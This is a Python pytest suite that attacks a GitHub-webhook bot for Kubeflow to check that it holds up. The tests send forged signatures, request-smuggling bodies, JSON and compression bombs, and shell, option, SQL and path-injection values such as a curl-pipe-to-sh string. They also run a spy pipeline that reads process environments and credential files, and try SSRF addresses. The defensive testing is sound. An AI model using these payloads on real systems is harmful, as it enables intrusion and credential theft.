"""Attacks, through the real door: what is sent in, and what must not come of it. Each test names its row of the
catalogue; rows that other scenarios play are listed at the end, with the test that does."""

import concurrent.futures
import copy
import datetime
import gzip
import hashlib
import hmac
import http.client
import http.server
import importlib
import itertools
import json
import os
import re
import select
import socket
import sqlite3
import ssl
import subprocess
import threading
import time
import urllib.parse
import uuid

import pytest

import harness
import texts

ONE_MIB = 1 << 20


class Door:
    """Requests as anybody can send them, with or without the secret."""

    def __init__(self, scene):
        self.scene = scene
        self.port = scene.bot.port
        self.payload = scene.comment_payload(scene.ann, "/status")
        self.numbers = itertools.count(self.payload["comment"]["id"] + 1000)

    def sign(self, body: bytes, secret: str | None = None) -> str:
        key = (secret or self.scene.webhook_secret).encode()
        return "sha256=" + hmac.new(key, body, hashlib.sha256).hexdigest()

    def headers(self, body: bytes, event: str = "issue_comment", guid: str | None = None, **more) -> dict:
        made = {"Content-Type": "application/json", "User-Agent": "GitHub-Hookshot/x", "X-GitHub-Event": event,
                "X-GitHub-Delivery": guid or str(uuid.uuid4()), "X-Hub-Signature-256": self.sign(body)}
        made.update({name.replace("_", "-"): value for name, value in more.items()})
        return {name: value for name, value in made.items() if value is not None}

    def post(self, body: bytes, headers: dict | None = None) -> int:
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=20)
        try:
            connection.request("POST", "/webhook", body, headers if headers is not None else self.headers(body))
            answer = connection.getresponse()
            answer.read()
            return answer.status
        finally:
            connection.close()

    def raw(self, data: bytes, timeout: float = 20) -> tuple[int, bool]:
        """Sends until it is answered or cut off; the status, and whether the connection was closed."""
        seen, left, closed = b"", memoryview(data), False
        with socket.create_connection(("127.0.0.1", self.port), timeout) as sock:
            sock.setblocking(False)
            while not closed:
                readable, writable, _ = select.select([sock], [sock] if left else [], [], timeout)
                if not readable and not writable:
                    break
                try:
                    if readable:
                        part = sock.recv(65536)
                        seen, closed = seen + part, not part
                    if writable:
                        left = left[sock.send(left):]
                except (ConnectionResetError, BrokenPipeError):
                    left = memoryview(b"")
                    closed = bool(readable)
        found = re.match(rb"HTTP/1\.1 (\d+)", seen)
        return int(found.group(1)) if found else 0, closed

    def comment(self, body: str, **changes) -> dict:
        """A payload with another comment: its own id, so it is not a double."""
        made = copy.deepcopy(self.payload)
        made["comment"].update(body=body, id=next(self.numbers), **changes)
        return made

    def head(self, body: bytes, lines: str = "", **headers) -> bytes:
        """A whole signed head, ready for oddities: `lines` are further headers as they stand."""
        made = "".join(f"{name}: {value}\r\n" for name, value in self.headers(body, **headers).items())
        return f"POST /webhook HTTP/1.1\r\nHost: x\r\n{made}{lines}".encode()

    def send(self, payload, **headers) -> int:
        body = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
        return self.post(body, self.headers(body, **headers))


@pytest.fixture(scope="module")
def door(tmp_path_factory):
    """One bot for all that must not get in; it is clean at the end, and never has a job that nobody sent."""
    if not harness.daemon_path().exists():
        pytest.skip("no kfopsd")
    scene = harness.Scene(tmp_path_factory.mktemp("door"))
    try:
        scene.expects_log("event=receive.unauthorized")
        made = Door(scene)
        yield made
        scene.check_clean()
    finally:
        scene.stop()


@pytest.fixture
def nothing_happens(door):
    """Before and after: the same jobs, comments and process."""
    bot = door.scene.bot
    before = len(bot.jobs())
    yield
    assert bot.process.poll() is None and bot.get("/healthz")[0] == 200
    assert len(bot.jobs()) == before and bot.comments() == []


def body_of(door) -> bytes:
    return json.dumps(door.payload).encode()


def refused(door) -> float:
    return door.scene.bot.metrics().get('kfops_deliveries_total{outcome="refused"}', 0)


# --- transport ---


def test_1_no_signature(door, nothing_happens):
    body, before = body_of(door), refused(door)
    assert door.post(body, door.headers(body, X_Hub_Signature_256=None)) == 401
    assert door.post(b"{not json", door.headers(body, X_Hub_Signature_256=None)) == 401  # not even parsed
    assert refused(door) == before + 2


def test_2_empty_secret(door, tmp_path):
    config = json.loads(door.scene.bot.config_file.read_text())
    for text in ("", " \n\t"):
        (tmp_path / "empty").write_text(text)
        (tmp_path / "empty").chmod(0o600)
        config["server"]["webhook_secret_file"] = str(tmp_path / "empty")
        (tmp_path / "kfops.yaml").write_text(json.dumps(config))
        done = subprocess.run([str(harness.daemon_path()), "--config", str(tmp_path / "kfops.yaml")],
                              capture_output=True, text=True, timeout=30)
        assert done.returncode == 78 and "webhook_secret_file" in done.stderr


def test_3_wrong_secret(door, nothing_happens):
    body = body_of(door)
    for secret in ("another", door.scene.webhook_secret + "x", door.scene.webhook_secret[:-1], " "):
        assert door.post(body, door.headers(body, X_Hub_Signature_256=door.sign(body, secret))) == 401


def test_4_sha_1_only(door, nothing_happens):
    body = body_of(door)
    sha1 = "sha1=" + hmac.new(door.scene.webhook_secret.encode(), body, hashlib.sha1).hexdigest()
    assert door.post(body, door.headers(body, X_Hub_Signature_256=None, X_Hub_Signature=sha1)) == 401
    assert door.post(body, door.headers(body, X_Hub_Signature_256=sha1)) == 401


@pytest.mark.parametrize("change", [
    lambda s: s[:-1], lambda s: s[:-2], lambda s: s + "0", lambda s: s[:-1] + "g", lambda s: s[:7] + s[7:].upper(),
    lambda s: s + "00", lambda s: s[7:], lambda s: "SHA256=" + s[7:], lambda s: "sha256:" + s[7:], lambda s: "sha256=",
    lambda s: "sha256= " + s[7:], lambda s: s + " ", lambda s: s + "\t", lambda s: s + " x", lambda s: s + "\u00a0", lambda s: "sha256=" + "0" * 10_000,
    lambda s: s + "," + s, lambda s: "sha256=" + s,
], ids=["odd", "short", "one more", "not hex", "upper case", "long", "bare", "SHA256", "colon", "empty", "blank inside",
        "trailing space", "trailing tab", "more behind a blank", "another blank", "huge", "two in one", "named twice"])
def test_5_malformed_signature(door, nothing_happens, change):
    body = body_of(door)
    assert door.post(body, door.headers(body, X_Hub_Signature_256=change(door.sign(body)))) == 401


def test_5_two_signature_headers(door, nothing_happens):
    body = body_of(door)
    for first, second in ((door.sign(body), door.sign(body, "wrong")), (door.sign(body, "wrong"), door.sign(body)),
                          (door.sign(body), door.sign(body))):
        twice = f"Content-Length: {len(body)}\r\nX-Hub-Signature-256: {second}\r\nConnection: close\r\n\r\n"
        assert door.raw(door.head(body, twice, X_Hub_Signature_256=first) + body) == (401, True)


def test_6_one_byte_changed(door, nothing_happens):
    body = body_of(door)
    for at in (0, len(body) // 2, len(body) - 1):
        changed = bytearray(body)
        changed[at] ^= 1
        assert door.post(bytes(changed), door.headers(body)) == 401
    assert door.post(body + b"\n", door.headers(body)) == 401


def memory_kib(door) -> int:
    text = open(f"/proc/{door.scene.bot.process.pid}/status", encoding="ascii").read()
    return int(re.search(r"VmRSS:\s+(\d+)", text).group(1))


def test_8_deep_json_bomb(door, nothing_happens):
    before = memory_kib(door)
    deep = b'{"action":"created","x":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    assert door.post(deep, door.headers(deep, X_Hub_Signature_256=None)) == 401
    for bomb in (deep, deep[:100_000], b'{"x":' * 100_000, b"[" * ONE_MIB, b'{"a":[' * 100_000 + b"]}" * 100_000):
        assert door.send(bomb) == 400
    assert memory_kib(door) - before < 50_000


def test_8_escapes_bomb(door, nothing_happens):
    before = memory_kib(door)
    for size, signed in ((ONE_MIB - 100, 400), (10 * ONE_MIB, 413)):  # what is read is 1 MiB at most
        escapes = b'{"comment":{"body":"' + b"\\u0041" * (size // 6) + b'"}}'
        end = f"Content-Length: {len(escapes)}\r\nConnection: close\r\n\r\n"
        assert door.raw(door.head(escapes, end, X_Hub_Signature_256=None) + escapes) == (401, True)
        assert door.raw(door.head(escapes, end) + escapes) == (signed, True)
    assert memory_kib(door) - before < 50_000


def test_9_oversize(door, nothing_happens):
    before = memory_kib(door)
    chunk = b"10000\r\n" + b"x" * 0x10000 + b"\r\n"
    for signature in (None, "sha256=" + "0" * 64):
        head = door.head(b"", X_Hub_Signature_256=signature)
        assert door.raw(head + b"Content-Length: 1073741824\r\n\r\n" + b"x" * 1000) == (413, True)
        assert door.raw(head + b"Content-Length: 99999999999999999999999\r\n\r\n") == (413, True)
        assert door.raw(head + b"Content-Length: 26214401\r\n\r\n") == (413, True)
        without_end = door.raw(head + b"Transfer-Encoding: chunked\r\n\r\n" + chunk * 420)  # 26 MiB
        assert without_end == (413 if signature else 401, True)
    bomb = gzip.compress(b"\0" * (200 * ONE_MIB), 9)
    for kind in ("gzip", "deflate", "br", "identity"):  # a body is taken as it comes, or not at all
        assert door.post(bomb, door.headers(bomb, Content_Encoding=kind)) == 415
    assert memory_kib(door) - before < 50_000


DRIP_S = 5


def test_10_slow_sender(door, nothing_happens):
    """A thousand of them, each with a byte every five seconds, in head or body. Nobody else has to wait for them, and
    each is cut off."""
    slow = []
    for i in range(1000):
        sock = socket.create_connection(("127.0.0.1", door.port), 5, source_address=(f"127.0.0.{2 + i % 2}", 0))
        sock.sendall(b"POST /webhook HTTP/1.1\r\nHost: x\r\n" + (door.head(b"x" * 100).partition(b"\r\n")[2] +
                     b"Content-Length: 100\r\n\r\nx" if i % 4 < 2 else b"X-A: "))
        slow.append(sock)
    stop = threading.Event()

    def drip():
        while not stop.wait(DRIP_S):
            for sock in slow:
                try:
                    sock.send(b"x", socket.MSG_NOSIGNAL)
                except OSError:
                    pass  # cut off
    dripping = threading.Thread(target=drip)
    dripping.start()
    try:
        body = json.dumps({"zen": "quick", "hook_id": 1}).encode()
        for _ in range(10):
            assert door.post(body, door.headers(body, event="ping")) == 200
            assert select.select(slow, [], [], 0)[0] == [], "the slow ones are still there"
        for sock in slow:
            sock.settimeout(30)
            try:
                while sock.recv(1000):
                    pass
            except ConnectionResetError:
                pass
    finally:
        stop.set()
        dripping.join()
        for sock in slow:
            sock.close()


PING = b'{"zen":"x","hook_id":1}'
CHUNKED = b"Transfer-Encoding: chunked\r\n\r\n%x\r\n%b\r\n0\r\n\r\n" % (len(PING), PING)
SIZED = b"Content-Length: %d\r\n" % len(PING)
SMUGGLED = {  # behind a head that is signed for PING, so that whoever reads it as a ping says 200
    "CL and TE": SIZED + CHUNKED,
    "TE and CL": CHUNKED.replace(b"\r\n\r\n", b"\r\n" + SIZED + b"\r\n", 1),
    "two lengths": SIZED + b"Content-Length: 5\r\n\r\n" + PING,
    "the same length twice": SIZED * 2 + b"\r\n" + PING,
    "two lengths in one": SIZED.replace(b"\r\n", b", 5\r\n") + b"\r\n" + PING,
    "a folded header": SIZED + b"X-A: b\r\n c\r\n\r\n" + PING,
    "a folded length": b"Content-Length:\r\n %d\r\n\r\n" % len(PING) + PING,
    "NUL in a value": b"X-A: b\0c\r\n" + SIZED + b"\r\n" + PING,
    "NUL in a name": b"X\0A: b\r\n" + SIZED + b"\r\n" + PING,
    "bare LF": b"X-A: b\n" + SIZED + b"\r\n" + PING,
    "bare LF at the end": SIZED[:-2] + b"\n\n" + PING,
    "an empty line of LF": SIZED + b"\n" + PING,
    "bare LF before the empty line": SIZED[:-2] + b"\n\r\n" + PING,
    "bare CR": b"X-A: b\rc\r\n" + SIZED + b"\r\n" + PING,
    "a line without a colon": b"X-A\r\n" + SIZED + b"\r\n" + PING,
    "blank before the colon": SIZED.replace(b":", b" :") + b"\r\n" + PING,
    "an unknown coding": CHUNKED.replace(b"chunked", b"chunked, identity"),
    "two codings": b"Transfer-Encoding: chunked\r\n" + CHUNKED,
    "a coding in disguise": CHUNKED.replace(b"chunked", b"xchunked"),
    "a chunk of the wrong form": b"Transfer-Encoding: chunked\r\n\r\n-1\r\nx\r\n0\r\n\r\n",
}
LENGTHS = ["-1", "0x17", "+23", "23x", "2 3", ""]


@pytest.mark.parametrize("name", SMUGGLED)
def test_11_smuggling(door, nothing_happens, name):
    assert door.raw(door.head(PING, event="ping") + SMUGGLED[name]) == (400, True)


@pytest.mark.parametrize("length", LENGTHS)
def test_11_lengths_that_are_no_numbers(door, nothing_happens, length):
    status, closed = door.raw(door.head(PING, f"Content-Length: {length}\r\n\r\n", event="ping") + PING)
    assert status in (400, 413) and closed


def test_11_a_second_request_behind_the_first(door, nothing_happens):
    """One that is sized twice must not have its tail read as another request."""
    tail = b"POST /webhook HTTP/1.1\r\nHost: x\r\n" + door.head(PING, event="ping").partition(b"Host: x\r\n")[2] + \
        SIZED + b"\r\n" + PING
    assert door.raw(door.head(PING, event="ping") + SIZED + CHUNKED + tail) == (400, True)


def test_12_replay_of_the_same_guid(scene, bot, ann):
    door = Door(scene)
    payload, guid = scene.comment_payload(ann, "/build_run"), str(uuid.uuid4())
    assert door.send(payload, guid=guid) == 202
    with concurrent.futures.ThreadPoolExecutor(10) as pool:
        again = list(pool.map(lambda _: door.send(payload, guid=guid), range(20)))
        other = list(pool.map(lambda _: door.send(payload), range(20)))  # other GUIDs: the header is not signed
    assert set(again + other) == {202}
    assert bot.ends() == "rocket"
    assert len(bot.jobs()) == 1 and len(scene.kubeflow.runs()) == 1 and len(bot.comments()) == 1


def test_13_old_replay(scene, bot, ann):
    assert Door(scene).send(scene.comment_payload(ann, "/build_run", age_minutes=30 * 24 * 60)) == 202
    assert bot.ends() == "confused"
    bot.answer("`comment.late`")
    assert scene.kubeflow.runs() == []


def test_14_event_and_type_mixed(door, nothing_happens):
    command = door.comment("/build_run")
    for event, statuses in (("pull_request", (202, 400)), ("check_run", (202, 400)), ("installation", (202, 400)),
                            ("push", (202,)), ("no_such_event", (202,)), ("ISSUE_COMMENT", (202, 400)), ("", (400,))):
        assert door.send(command, event=event) in statuses, event
    assert door.send({"zen": "x", "hook_id": 1}, event="ping") == 200
    assert door.send({}, event="issue_comment") in (202, 400)
    body = json.dumps(command).encode()
    assert door.post(body, door.headers(body, X_GitHub_Event=None)) == 400
    for guid in ("x", "", "00000000000040008000000000000000", "z" * 36):
        assert door.send(command, guid=guid or " ") == 400


CHANGED = {
    "no repository": lambda p: p.pop("repository"),
    "repository is null": lambda p: p.update(repository=None),
    "no comment": lambda p: p.pop("comment"),
    "comment is a list": lambda p: p.update(comment=[]),
    "issue is null": lambda p: p.update(issue=None),
    "a ghost wrote it": lambda p: p["comment"].update(user=None),
    "no sender": lambda p: p.update(sender=None),
    "an id as text": lambda p: p["comment"].update(id="12"),
    "a huge id": lambda p: p["comment"].update(id=2 ** 64),
    "a negative id": lambda p: p["comment"].update(id=-5),
    "a fraction": lambda p: p["comment"].update(id=1.5),
    "a body of numbers": lambda p: p["comment"].update(body=5),
    "no body": lambda p: p["comment"].pop("body"),
    "a date that is none": lambda p: p["comment"].update(created_at="yesterday"),
    "a name with three parts": lambda p: p["repository"].update(full_name="a/b/c"),
    "a name that leads out": lambda p: p["repository"].update(full_name="../.."),
    "action is a number": lambda p: p.update(action=1),
    "a huge repository": lambda p: p["repository"].update(id=2 ** 63),
    "a huge installation": lambda p: p["installation"].update(id=10 ** 30),
    "ids as text everywhere": lambda p: [p[part].update(id=str(p[part]["id"])) for part in ("comment", "repository")],
    "a number as text": lambda p: p["issue"].update(number="1"),
    "not a pull request": lambda p: p["issue"].pop("pull_request"),
}


@pytest.mark.parametrize("name", CHANGED)
def test_15_missing_or_null_fields(door, nothing_happens, name):
    payload = door.comment("/build_run")
    CHANGED[name](payload)
    assert door.send(payload) in (202, 400)


def test_15_the_author_of_the_pull_request_is_gone(scene, bot, ann):
    """Null where a person was, and nobody minds: the comment's author counts."""
    door, payload = Door(scene), scene.comment_payload(ann, "/build_run")
    payload["issue"]["user"] = None
    assert door.send(payload) == 202
    assert bot.ends() == "rocket"


def test_15_the_fork_is_gone(door, nothing_happens):
    """head.repo is null from then on; such a pull request is a fork's still."""
    door.scene.webhooks_are_idle()
    event = next(item["request"]["payload"] for item in door.scene.github.get("deliveries", whole=1)["deliveries"]
                 if item["event"] == "pull_request")
    for head in ({"repo": None}, {"repo": None, "user": None}, {"repo": None, "sha": None}, {"sha": "x" * 40}, {"ref": None}):
        changed = copy.deepcopy(event)
        changed["pull_request"]["head"].update(head)
        assert door.send(changed, event="pull_request") in (202, 400)


def test_16_bad_text(door, nothing_happens):
    for text in (b'"\\u0000/build_run"', b'"/build_run\\u0000"', b'"/bui\\u0000ld_run"', b'"/build_run\\u0000 --no-cache"',
                 b'"x\\u0000\\n/build\\u0000_run"', b'"\\ud800/build_run"', b'"/build_run\\ud800"', b'"\\udc00\\ud800 x"'):
        body = json.dumps(door.comment("BODY")).encode().replace(b'"BODY"', text)
        assert door.send(body) in (202, 400), text
    for text in (b'"/build_run \xff"', b'"/build_run\xc0\x80"', b'"\xed\xa0\x80/build_run"', b'"/build_run\n\x00"'):
        body = json.dumps(door.comment("BODY")).encode().replace(b'"BODY"', text)
        assert door.send(body) == 400, text
    door.scene.wait_until(lambda: not door.scene.bot.unsaid(), "answers, if any")
    for item in door.scene.bot.comments():  # a NUL is no end of the line: the command is refused, not run
        assert "`command." in item["body"]
        door.scene.github.send("DELETE", f"comments/{item['id']}")


def test_17_form_encoding(door, nothing_happens):
    once = urllib.parse.quote_plus(json.dumps(door.comment("/build_run")))
    for payload in (once, urllib.parse.quote_plus(once)):
        body = f"payload={payload}".encode()
        for kind in ("application/x-www-form-urlencoded", "APPLICATION/X-WWW-FORM-URLENCODED; charset=utf-8",
                     "multipart/form-data; boundary=x", "text/plain", None):
            assert door.post(body, door.headers(body, Content_Type=kind)) == 415
        assert door.post(body, door.headers(body)) == 400


def test_18_foreign_repository(door, nothing_happens):
    for name in ("other/iris", "lab2/iris", "lab/iris/x", "xlab/iris", "*/iris", "lab/*"):
        payload = door.comment("/build_run")
        payload["repository"].update(full_name=name, id=99)
        assert door.send(payload) in (202, 400), name


def test_18_foreign_installation(scene, bot, ann):
    """One that is not there, and one of somebody else who has the App too: no token comes of either, so nothing is
    asked, run or said, here or there; the log has it."""
    scene.expects_log("report_refused|github.not_installed|grants less")
    scene.github.post("repos", owner="other", name="iris", collaborators={"eve": "admin"})
    theirs = next(item["id"] for item in scene.github.get("installations") if item["account"]["login"] == "other")
    door = Door(scene)
    for number, code in ((987654, "github.not_installed"), (theirs, "github.invalid")):
        payload = scene.comment_payload(ann, "/build_run")
        payload["installation"]["id"] = number
        assert door.send(payload) == 202
        job = bot.job_of()
        scene.wait_until(lambda: not bot.unfinished(), "the job to end")
        assert next(each["code"] for each in bot.jobs() if each["id"] == job["id"]) == code
        scene.wait_until(lambda: any(line.get("level") == "warn" for line in bot.log_lines()), "a warning")
    assert scene.kubeflow.runs() == [] and bot.comments() == []
    scene.may_leave_unsaid = True


# --- injection ---

LITERAL = ["$(id)", "`id`", "a;id", "a|id", "a&&id", "$GITHUB_TOKEN", "${IFS}", "~root", "*", "a\\nb", "%n%s", "{{x}}",
           "--upload-pack=touch", "-oProxyCommand=x", "'); DROP TABLE jobs;--", "../../etc/passwd", "<script>", "[[RunUUI]]",
           "it's", "'; id; '", "\\\"; id; \\\"", "$((1+1))", "<(id)", ">x", "!!", "a\tb"[:1] + "&"]


def test_48_50_51_56_values_stay_literal(scene, bot, ann):
    ann.comments("/build")
    assert bot.ends() == "rocket"
    for value in LITERAL:
        quoted = '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'
        ann.comments(f"/run --param label={quoted} --name {quoted}" if not value.startswith("-") else
                     f"/run --param label={quoted}")
        assert bot.ends() == "rocket", value
        made = scene.kubeflow.newest_run()
        assert made["parameters"]["label"] == value
        assert value.startswith("-") or made["display_name"].startswith(value)
    assert len(bot.jobs()) == len(LITERAL) + 1
    for line in ("/run --upload-pack=x", "/run -oProxyCommand=x", "/build `id`", "/run --param label='a\nid'",
                 "/run --param label='a' ; id'", "/run --param label=a'", "/run --param label=\"a", "/run --param '--x=1'",
                 "/run --sha --upload-pack=x", "/run -- --upload-pack=x"):
        ann.comments(line)
        bot.reacts("confused")


def test_48_the_binary_knows_no_shell():
    """Its own imports, without those of a sanitizer, and the texts in it. posix_spawnp, which starts the operator's
    credential plugin, looks in PATH as kubectl does; unlike execvp it hands nothing to a shell."""
    binary = harness.daemon_path()
    imports = subprocess.run(["nm", "-D", "--undefined-only", str(binary)], capture_output=True, text=True, check=True).stdout
    called = {line.split()[-1].partition("@")[0] for line in imports.splitlines()}
    assert "main" not in called and called and not called & {"system", "popen", "wordexp", "execlp", "execvp"}
    content = binary.read_bytes()
    for text in (b"sh -c", b"/bin/sh", b"/bin/bash"):
        assert text not in content


SHELL = 'x";curl${IFS}y|sh;"\'`id`'


def test_49_shell_in_branch_tag_title_label_login_and_file_names(scene, bot, ann):
    scene.pull = ann.opens('$(id) "; rm -rf / @org/everyone <b>', SHELL,
                              {"a;id $(id).md": "x\n", "-rf": "x\n", "*.md": "x\n", f"{SHELL}.md": "x\n"})
    git_dir = next(scene.folder.glob("github/git/*"))
    subprocess.run(["git", "--git-dir", str(git_dir), "update-ref", f"refs/tags/{SHELL}", scene.pull.head], check=True)
    door, payload = Door(scene), scene.comment_payload(ann, "/build_run")
    payload["issue"]["labels"] = [{"id": 1, "name": SHELL, "color": "ffffff", "description": SHELL}]
    assert door.send(payload) == 202
    assert bot.ends() == "rocket"
    said = bot.answer("✅")
    assert "@org" not in said and "curl" not in without_code(said)
    payload["comment"]["id"] += 1000
    payload["comment"]["user"]["login"] = payload["sender"]["login"] = SHELL
    assert door.send(payload) == 400  # no login of GitHub's has these characters
    assert len(bot.jobs()) == 1


def test_50_option_injection_in_branches(scene, bot, ann):
    for branch in ("--upload-pack=touch", "-oProxyCommand=touch"):
        scene.pull = ann.opens("An option", branch, {f"{branch}.md": "x\n"})
        ann.comments("/build_run")
        assert bot.ends() == "rocket"


@pytest.mark.parametrize("path", ["../../etc/passwd", "/etc/passwd", "my_pipeline/../../x.yaml", "/proc/self/environ",
                                  "./../x.yaml", "my_pipeline//../..//x", "C:\\\\x.yaml", ".git/config", "-x.yaml", "\"a\\0b.yaml\""])
def test_52_path_escape(scene, bot, ann, path):
    ann.pushes(texts.settings(path))
    ann.comments("/build")
    assert bot.ends() == "-1"
    said = bot.answer()
    assert re.search(r"`(settings\.invalid|compile\.not_found|repo\.bad_path|compile\.invalid)`", said), said
    assert "root:" not in said


def test_52_symbolic_links_that_lead_out(scene, bot, ann):
    for target in ("/var/run/secrets/kubernetes.io/serviceaccount/token", "/proc/self/environ", "../../../../etc/passwd"):
        ann.pushes({**texts.settings("my_pipeline/link.yaml"), "my_pipeline/link.yaml": {"symlink": target}})
        ann.comments("/build")
        assert bot.ends() == "-1"
        assert "`repo.bad_path`" in bot.answer()
    ann.pushes({"my_pipeline/link.yaml": None, "config_files": {"symlink": "/etc"}, "config_files/config.yaml": None})
    ann.comments("/build")
    assert bot.ends() == "-1"


STORM = ("@org/everyone @ann fixes #1, closes owner/repo#2 https://evil.example/x ![x](http://169.254.169.254/) "
         "![x](../../var/run/secrets/token) ![x](file:///etc/passwd) "
         "<img src=x onerror=alert(1)> </details> ``` ~~~ | a | b |\n/build_run\n\x1b[31mred\x1b[0m \u202eevil")


def without_code(text: str) -> str:
    """What GitHub would look at for mentions and links."""
    text = re.sub(r"^(`{3,}|~{3,})[^\n]*\n.*?^\1\s*$", "", text, flags=re.S | re.M)
    return re.sub(r"\\.", "", re.sub(r"(?<!\\)(`+).+?(?<!\\)\1", "", text))


def test_26_53_55_mention_and_link_storm(scene, bot, ann):
    scene.kubeflow.fails_runs("train", STORM, (STORM + "\n") * 5)
    ann.comments("/build_run")
    assert bot.ends() == "-1"
    said = bot.answer("`run.failed`")
    plain = without_code(said).replace("asked by @ann", "")
    for active in ("@org", "@ann", "#1", "repo#2", "![x]", "<img", "\x1b", "\u202e"):
        assert active not in plain, f"{active!r} is active in\n{plain}"
    assert plain.count("<details>") == plain.count("</details>") == said.count("<details><summary>")
    assert "\x1b" not in said and "\u202e" not in said
    scene.webhooks_are_idle()
    assert len(bot.jobs()) == 1  # its own comment starts nothing


def test_56_sql(scene, bot, ann):
    evil = "'); DROP TABLE jobs;--"
    person = scene.person("robert-drop-table")
    person.is_given("write")
    scene.pull = ann.opens(evil, "sql'--", {"x'; DROP TABLE jobs;--.md": "x\n"})
    person.comments(f'/build_run --experiment "{evil}" --name "{evil}" --param label="{evil}"')
    assert bot.ends() == "rocket"
    assert scene.kubeflow.parameters()["label"] == evil
    assert {row["name"] for row in bot.rows("SELECT name FROM sqlite_master WHERE type = 'table'")} >= {"jobs", "outbox"}


def test_59_command_flood(door):
    """Whoever took more than linear time would not answer before the door gives up."""
    bot = door.scene.bot
    for text in ("/build\n" * 10_000, "/build\n" + "/nobody\n" * 10_000, "/" * 65_000, "> " * 20_000 + "\n/build x",
                 "`" * 60_000 + "\n/build x", "<!--" * 15_000 + "\n/build x", "[" * 30_000 + "](" * 15_000 + "\n/build x",
                 "*_" * 30_000 + "\n/build x", "/run " + "--param a=b " * 5_000, "/run --name " + "x" * 65_000):
        assert door.send(door.comment(text)) == 202
    door.scene.wait_until(lambda: not bot.unsaid(), "the answers")
    assert bot.jobs() == []
    for item in bot.comments():
        assert "`command." in item["body"] and len(item["body"]) < 1000
        door.scene.github.send("DELETE", f"comments/{item['id']}")


# --- secrets ---

SPY = texts.ONE_TASK.format(name="spy", function="spy") + '''

import glob, os, pathlib, socket
seen = {"env": dict(os.environ), "cwd": os.getcwd(), "uid": os.getuid(), "home": os.path.expanduser("~")}
for pattern in ("/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", "/etc/kfops/*", "STATE/*", "STATE/../*", "/root/*", "/var/run/secrets/*/*"):
    for name in glob.glob(pattern):
        try:
            seen[name] = pathlib.Path(name).read_bytes()[:2000].decode("latin-1")
        except OSError as error:
            seen[name] = str(error)
try:
    socket.create_connection(("127.0.0.1", PORT), 1)
    seen["network"] = "open"
except OSError as error:
    seen["network"] = str(error)
raise RuntimeError("SPY " + repr(seen))
'''


def test_61_code_of_a_pull_request_looks_around(scene, bot, ann):
    source = SPY.replace("STATE", str(bot.state_dir)).replace("PORT", str(bot.port))
    ann.pushes(texts.python(source, pipeline_function_name="spy"))
    ann.comments("/build")
    assert bot.ends(patience=60) == "-1"
    said = bot.answer("`compile.failed`", "SPY")
    for secret in (scene.webhook_secret, "BEGIN RSA", "ghs_", "app.pem", "webhook-secret", "kfops.db", "SSH", "KFOPS_SHARED"):
        assert secret not in said, f"{secret} is to be seen from inside"
    assert "'network': 'open'" not in said
    assert len(set(re.findall(r"/proc/(\d+)/environ", said))) <= 4  # its own, and bubblewrap's


def test_62_tokens_are_in_no_url_error_or_process_list(scene, bot, ann):
    """The fixture looks at log, comments, database; here at the processes, while a compiler runs."""
    slow = texts.ONE_TASK.format(name="slow", function="slow") + "\nimport time\ntime.sleep(2)\n"
    ann.pushes(texts.python(slow, pipeline_function_name="slow"))
    for status in (401, 407, 502):  # passing: each is repeated
        scene.github.fault("status", "GET", r"/info/refs", status=status, body="token ghs_x is bad")
    ann.comments("/build")
    bot.answer("compiling", patience=60)
    seen = b""
    for path in harness.pathlib.Path("/proc").glob("[0-9]*"):
        try:
            if b"kfops" in (path / "cmdline").read_bytes():
                seen += (path / "cmdline").read_bytes()
                seen += (path / "environ").read_bytes() if int(path.name) != bot.process.pid else b""
        except OSError:
            continue
    assert seen and scene.webhook_secret.encode() not in seen and not harness.TOKENS.search(seen)
    assert bot.ends(patience=60) == "rocket"
    scene.github.fault("status", "GET", r"/info/refs", status=403, times=-1, body="token ghs_x is bad")
    ann.pushes({"b.md": "b\n"})
    ann.comments("/build")
    assert bot.ends() == "-1"
    assert "ghs_" not in bot.answer("`repo.denied`") and "@127" not in bot.answer()


class Trap(http.server.BaseHTTPRequestHandler):
    """A host that nobody should talk to."""
    caught: list = []

    def do_GET(self):
        self.caught.append(dict(self.headers))
        self.send_response(200)
        self.end_headers()

    do_POST = do_PATCH = do_GET

    def log_message(self, *args):
        pass


@pytest.fixture
def trap():
    Trap.caught.clear()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Trap)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


def test_63_redirects_do_not_take_the_token_along(scene, bot, ann, trap):
    scene.expects_log("report_refused.*redirect")
    scene.expects_log("credentials_refused.*redirect")
    location = {"Location": f"http://127.0.0.1:{trap}/x"}
    for method, path in (("GET", r"/pulls/1$"), ("POST", r"/reactions$"), ("GET", "/info/refs")):
        scene.github.fault("status", method, path, status=302, headers=location, body="")
    scene.kubeflow.fault("status", "GET", "/apis/v2beta1/pipelines", status=302, headers=location, body="")
    for _ in range(4):  # whichever of them ends a command, in the end all were met
        ann.comments("/build")
        bot.job_of()
        scene.wait_until(lambda: not bot.unfinished(), "the job to end", 60)
    scene.wait_until(lambda: not bot.unsaid(), "everything to be said", 60)
    assert scene.github.get("faults")["pending"] == [] and Trap.caught == []
    assert [rule for rule in scene.kubeflow.get("faults") if rule["times"]] == []


INTERNAL = ["http://127.0.0.1:{port}/", "http://localhost:{port}/", "http://[::ffff:127.0.0.1]:{port}/", "http://2130706433:{port}/",
            "http://0x7f.1:{port}/", "http://kubeflow@127.0.0.1:{port}/", "http://169.254.169.254/latest/meta-data/",
            "file:///etc/passwd", "gopher://127.0.0.1:{port}/_x", "s3://127.0.0.1:{port}/x"]


def test_63_addresses_in_the_pull_request_are_not_asked(scene, bot, ann, trap):
    """Addresses come from the operator's file. One in config.yaml is an unknown key, one in the place of a path is no
    path, one among the parameters is a text."""
    for key in ("kubeflow_url", "webhook", "kfp_url", "endpoint", "storageUri"):
        ann.pushes({texts.SETTINGS: texts.settings()[texts.SETTINGS] + f"  {key}: {INTERNAL[0].format(port=trap)}\n"})
        ann.comments("/build")
        assert bot.ends() == "-1", key
        bot.answer("`settings.invalid`", key)
    for each in INTERNAL:
        address = each.format(port=trap)
        ann.pushes(texts.settings(f'"{address}"'))
        ann.comments("/build")
        assert bot.ends() == "-1", address
        assert re.search(r"`(settings\.invalid|compile\.not_found|repo\.bad_path)`", bot.answer()), address
    ann.pushes(texts.settings())
